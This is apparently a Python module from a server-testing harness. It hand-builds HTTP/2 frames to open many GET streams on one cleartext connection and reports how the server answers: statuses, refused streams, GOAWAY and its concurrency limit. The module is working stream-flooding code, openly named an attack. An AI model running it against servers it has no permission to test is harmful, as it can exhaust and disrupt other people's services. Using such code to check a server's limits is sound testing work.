"""Many HTTP/2 streams on one cleartext connection (h2c with prior knowledge), Python stdlib only.

Just enough HTTP/2 for the attack: the preface, SETTINGS (the client asks for a header table of size
0, so the server's answers never refer to a dynamic table and the status can be read without
keeping one), a HEADERS frame per stream, and a reader that counts answers by status, refused
streams (RST_STREAM) and GOAWAY, and notes the server's SETTINGS_MAX_CONCURRENT_STREAMS.
"""
import collections
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
# RFC 7541 Appendix B: the Huffman codes of the ten digits, all a status can hold.
DIGIT_CODES = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5",
               "011100": "6", "011101": "7", "011110": "8", "011111": "9"}


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def enc_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value % 128) + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def dec_int(buf, pos, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value = buf[pos] & limit
    pos += 1
    if value < limit:
        return value, pos
    shift = 0
    while True:
        b = buf[pos]
        pos += 1
        value += (b & 127) << shift
        shift += 7
        if not b & 128:
            return value, pos


def literal(name, value):
    """Literal header field without indexing, new name, no Huffman coding."""
    n, v = name.encode(), value.encode()
    return b"\x00" + enc_int(len(n), 7) + n + enc_int(len(v), 7) + v


def dec_string(buf, pos):
    huffman = bool(buf[pos] & 0x80)
    length, pos = dec_int(buf, pos, 7)
    raw = buf[pos:pos + length]
    pos += length
    if not huffman:
        return raw.decode("latin-1"), pos
    bits, out, code = "".join(f"{b:08b}" for b in raw), [], ""
    for i, bit in enumerate(bits):
        code += bit
        if code in DIGIT_CODES:
            out.append(DIGIT_CODES[code])
            code = ""
        elif len(code) > 6:
            if set(bits[i + 1 - len(code):]) == {"1"} and len(bits) - (i + 1 - len(code)) < 8:
                break  # the padding: the most significant bits of the end-of-string code
            return None, pos  # not a status: other characters are of no interest here
    return "".join(out), pos


def status_of(block):
    """The :status of a header block encoded without the dynamic table."""
    pos = 0
    while pos < len(block):
        b = block[pos]
        if b & 0x80:
            index, pos = dec_int(block, pos, 7)
            if index in STATIC_STATUS:
                return STATIC_STATUS[index]
            continue
        if b & 0xE0 == 0x20:
            _, pos = dec_int(block, pos, 5)
            continue
        index, pos = dec_int(block, pos, 6 if b & 0x40 else 4)
        if index == 0:
            _, pos = dec_string(block, pos)
        value, pos = dec_string(block, pos)
        if index == 8 and value and value.isdigit():
            return int(value)
    return None


class H2Attack:
    """Opens `streams` GET streams on one connection and counts what comes back."""

    def __init__(self, host, port, path, streams):
        self.host, self.port, self.path, self.streams = host, port, path, streams
        self.statuses = collections.Counter()
        self.resets = collections.Counter()
        self.goaway = None
        self.max_streams = None
        self.refused_protocol = None
        self.settings_seen = False
        self.closed_by_server = False
        self.sent = 0
        self.sock = None
        self.done = threading.Event()

    def run(self, stop):
        try:
            self.sock = socket.create_connection((self.host, self.port), timeout=5)
            s = self.sock
            # HEADER_TABLE_SIZE 0, ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 2^31-1
            settings = struct.pack(">HI", 1, 0) + struct.pack(">HI", 2, 0) + struct.pack(">HI", 4, 2 ** 31 - 1)
            s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings)
                      + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2 ** 31 - 1 - 65535)))
            reader = threading.Thread(target=self.read, args=(stop,), daemon=True)
            reader.start()
            authority = f"{self.host}:{self.port}"
            block = (literal(":method", "GET") + literal(":scheme", "http") + literal(":path", self.path)
                     + literal(":authority", authority))
            for i in range(self.streams):
                if stop.is_set() or self.goaway is not None:
                    break
                s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block))
                self.sent += 1
            while not stop.is_set() and reader.is_alive():
                stop.wait(0.2)
        except OSError as e:
            self.refused_protocol = self.refused_protocol or f"{type(e).__name__}: {e}"
        finally:
            self.close()

    def read(self, stop):
        s, buf, pending = self.sock, b"", {}
        s.settimeout(1.0)
        while not stop.is_set():
            try:
                chunk = s.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                return
            if not chunk:
                self.closed_by_server = True
                return
            buf += chunk
            if buf.startswith(b"HTTP/1."):
                self.refused_protocol = buf.split(b"\r\n", 1)[0].decode("latin-1")
                return
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload, buf = buf[9:9 + length], buf[9 + length:]
                self.on_frame(ftype, flags, stream, payload, pending)

    def on_frame(self, ftype, flags, stream, payload, pending):
        if ftype == SETTINGS and not flags & ACK:
            self.settings_seen = True
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                if ident == 3:
                    self.max_streams = value
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                pos, end = 0, len(payload)
                if flags & PADDED:
                    end -= payload[0]
                    pos = 1
                if flags & PRIORITY:
                    pos += 5
                pending[stream] = pending.get(stream, b"") + payload[pos:end]
            else:
                pending[stream] = pending.get(stream, b"") + payload
            if flags & END_HEADERS:
                status = status_of(pending.pop(stream))
                if status is not None:
                    self.statuses[status] += 1
        elif ftype == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            self.resets[{7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM", 1: "PROTOCOL_ERROR"}
                        .get(code, f"code {code}")] += 1
        elif ftype == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big") if len(payload) >= 8 else -1

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass

    def summary(self):
        parts = [f"{self.sent} streams sent on 1 connection"]
        if self.refused_protocol:
            parts.append(f"h2c refused ({self.refused_protocol})")
        if not self.settings_seen:
            parts.append("no HTTP/2 SETTINGS from the server (h2c off)"
                         + ("; it closed the connection" if self.closed_by_server else ""))
        else:
            parts.append("server MAX_CONCURRENT_STREAMS "
                         + ("unlimited" if self.max_streams is None else str(self.max_streams)))
        if self.resets:
            parts.append("RST_STREAM " + ", ".join(f"{k}×{n}" for k, n in self.resets.items()))
        if self.goaway is not None:
            parts.append(f"GOAWAY (error {self.goaway})")
        return "; ".join(parts)


def run_for(host, port, path, streams, seconds):
    stop = threading.Event()
    attack = H2Attack(host, port, path, streams)
    th = threading.Thread(target=attack.run, args=(stop,), daemon=True)
    th.start()
    time.sleep(seconds)
    stop.set()
    attack.close()
    th.join(5)
    return attack
